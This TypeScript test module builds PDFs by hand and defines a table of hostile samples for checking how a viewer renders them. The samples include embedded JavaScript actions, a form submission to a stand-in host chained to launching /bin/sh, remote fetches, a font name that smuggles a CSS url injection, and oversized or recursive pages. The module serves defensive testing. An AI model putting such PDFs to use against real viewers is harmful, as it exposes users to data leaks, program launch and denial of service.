/** PDF files as a test needs them, written by hand (ISO 32000): nobody's, and some that mean harm. */

export interface MadePdf {
  /** What is drawn on each page, in PDF's own operators; a page has as many points as a letter (A4). */
  readonly pages?: readonly string[];
  readonly box?: string;
  /** More for the catalogue, every page, the trailer; and objects from number 100 on. */
  readonly catalog?: string;
  readonly page?: string;
  readonly trailer?: string;
  readonly resources?: string;
  readonly objects?: readonly (string | Buffer)[];
  /** The page tree says so and goes on with the first page, again and again. */
  readonly count?: number;
}

/** A square of a colour (red, green, blue: 0 or 1) in the upper half of the page, and words below it. */
export function square(colour: string, words: string): string {
  return `${colour} rg 100 450 400 300 re f 0 0 0 rg BT /F1 12 Tf 100 300 Td (${words}) Tj ET`;
}

export function pdf(made: MadePdf): Buffer {
  const pages = made.pages ?? [square('1 0 0', 'Synthetic page')];
  const box = made.box ?? '[0 0 595 842]';
  const kids = pages.map((_, at) => `${10 + 2 * at} 0 R`);
  const count = made.count ?? pages.length;
  if (made.count !== undefined) kids.push(...Array.from({ length: made.count - pages.length }, () => kids[0] as string));
  const objects = new Map<number, string | Buffer>([
    [1, `<</Type/Catalog/Pages 2 0 R ${made.catalog ?? ''}>>`],
    [2, `<</Type/Pages/Kids[${kids.join(' ')}]/Count ${count}>>`],
    [3, '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'],
    [4, '<</Type/Font/Subtype/Type1/BaseFont/ZapfDingbats>>'],
  ]);
  pages.forEach((content, at) => {
    objects.set(10 + 2 * at, `<</Type/Page/Parent 2 0 R/MediaBox${box}/Resources<</Font<</F1 3 0 R/F2 4 0 R>>${made.resources ?? ''}>>/Contents ${11 + 2 * at} 0 R ${made.page ?? ''}>>`);
    objects.set(11 + 2 * at, `<</Length ${content.length}>>stream\n${content}\nendstream`);
  });
  made.objects?.forEach((object, at) => objects.set(100 + at, object));
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  let length = parts[0]?.length ?? 0;
  const places = new Map<number, number>();
  const write = (bytes: Buffer): void => {
    parts.push(bytes);
    length += bytes.length;
  };
  for (const [number, object] of objects) {
    places.set(number, length);
    write(Buffer.concat([Buffer.from(`${number} 0 obj\n`), typeof object === 'string' ? Buffer.from(object) : object, Buffer.from('\nendobj\n')]));
  }
  const table = length;
  const last = Math.max(...objects.keys());
  const entry = (number: number): string => {
    const place = places.get(number);
    return place === undefined ? '0000000000 65535 f \n' : `${String(place).padStart(10, '0')} 00000 n \n`;
  };
  write(Buffer.from(`xref\n0 ${last + 1}\n${Array.from({ length: last + 1 }, (_, number) => entry(number)).join('')}`));
  write(Buffer.from(`trailer\n<</Size ${last + 1}/Root 1 0 R ${made.trailer ?? ''}>>\nstartxref\n${table}\n%%EOF`));
  return Buffer.concat(parts);
}

/** A page as a scanner makes it: a black picture in the coding of fax machines (ITU-T T.6), and nothing else. */
export function scanned(): Buffer {
  // One black line of eight, and seven that are as the one above.
  const bits = `00100110101000101${'11'.repeat(7)}000000000001000000000001`;
  const bytes = Buffer.from((bits.match(/.{1,8}/g) ?? []).map((byte) => parseInt(byte.padEnd(8, '0'), 2)));
  const head = `<</Type/XObject/Subtype/Image/Width 8/Height 8/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 8/Rows 8>>/Length ${bytes.length}>>stream\n`;
  return pdf({
    pages: ['q 400 0 0 300 100 450 cm /Scan Do Q'],
    resources: '/XObject<</Scan 100 0 R>>',
    objects: [Buffer.concat([Buffer.from(head), bytes, Buffer.from('\nendstream')])],
  });
}

const script = (code: string): string => `<</S/JavaScript/JS(${code})>>`;
const away = '<</S/URI/URI(https://elsewhere.example/?left)>>';

/** What each is shown as: its page with the red square, whatever is left of it, or plain words. */
export const HOSTILE: Readonly<Record<string, { readonly file: Buffer; readonly shows: 'page' | 'something' | RegExp }>> = {
  'scripts of the file, of a page, of a field': {
    file: pdf({
      catalog: `/OpenAction ${script("app.alert(1); document.title='broken'")}/AA<</WC ${script('app.alert(2)')}>>/AcroForm<</Fields[100 0 R]>>/Names<</JavaScript<</Names[(a)${script('app.alert(3)')}]>>>>`,
      page: `/AA<</O ${script('app.alert(4)')}>>/Annots[100 0 R]`,
      objects: [`<</Type/Annot/Subtype/Widget/FT/Tx/T(field)/Rect[0 0 595 842]/A ${script('app.alert(5)')}/AA<</E ${script('app.alert(6)')}/K ${script('app.alert(7)')}>>>>`],
    }),
    shows: 'page',
  },
  'links away, touched and at once': {
    file: pdf({ catalog: `/OpenAction ${away}`, page: '/Annots[100 0 R]', objects: [`<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A ${away}>>`] }),
    shows: 'page',
  },
  'a form that is sent, a program that is started, a file that is fetched': {
    file: pdf({
      catalog: '/OpenAction<</S/SubmitForm/F(https://elsewhere.example/form)/Next<</S/Launch/F(/bin/sh)/Next<</S/GoToR/F(https://elsewhere.example/a.pdf)>>>>>>',
      resources: '/XObject<</Away 100 0 R>>',
      pages: [`/Away Do ${square('1 0 0', 'Synthetic page')}`],
      objects: ['<</Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/F<</FS/URL/F(https://elsewhere.example/a.png)>>/Length 0>>stream\n\nendstream'],
    }),
    shows: 'page',
  },
  'a page of 350,000 km': { file: pdf({ box: '[0 0 1000000000 1000000000]', pages: ['1 0 0 rg 0 0 1000000000 1000000000 re f'] }), shows: 'page' },
  'a page as thin as none': { file: pdf({ box: '[0 0 1 1000000000]', pages: ['1 0 0 rg 0 0 1 1000000000 re f'] }), shows: 'something' },
  '100,000 pages': { file: pdf({ count: 100_000 }), shows: 'page' },
  'a drawing within itself': {
    file: pdf({
      resources: '/XObject<</Me 100 0 R>>',
      pages: [`/Me Do ${square('1 0 0', 'Synthetic page')}`],
      objects: ['<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</Me 100 0 R>>>>/Length 6>>stream\n/Me Do\nendstream'],
    }),
    shows: 'page',
  },
  'a name of a font that would be more': {
    file: pdf({
      resources: `/Font<</F1 100 0 R>>`,
      objects: [`<</Type/Font/Subtype/TrueType/BaseFont/x#29#7D#3B@import#20url#28https:#2F#2Felsewhere.example#29#3B/FontDescriptor 101 0 R>>`, '<</Type/FontDescriptor/FontName/x#29,url#28https:#2F#2Felsewhere.example/Flags 32>>'],
    }),
    shows: 'page',
  },
  'one that a password locks': {
    file: pdf({ trailer: `/ID[<${'00'.repeat(16)}><${'00'.repeat(16)}>]/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<${'41'.repeat(32)}>/U<${'42'.repeat(32)}>>>` }),
    shows: /locked by a password/,
  },
  'one of which only the beginning is there': { file: Buffer.from('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'), shows: /cannot be shown/ },
  'noise that begins as one': { file: Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(Array.from({ length: 50_000 }, (_, at) => (at * 7_919 + (at >> 3)) & 0xff))]), shows: /cannot be shown/ },
};
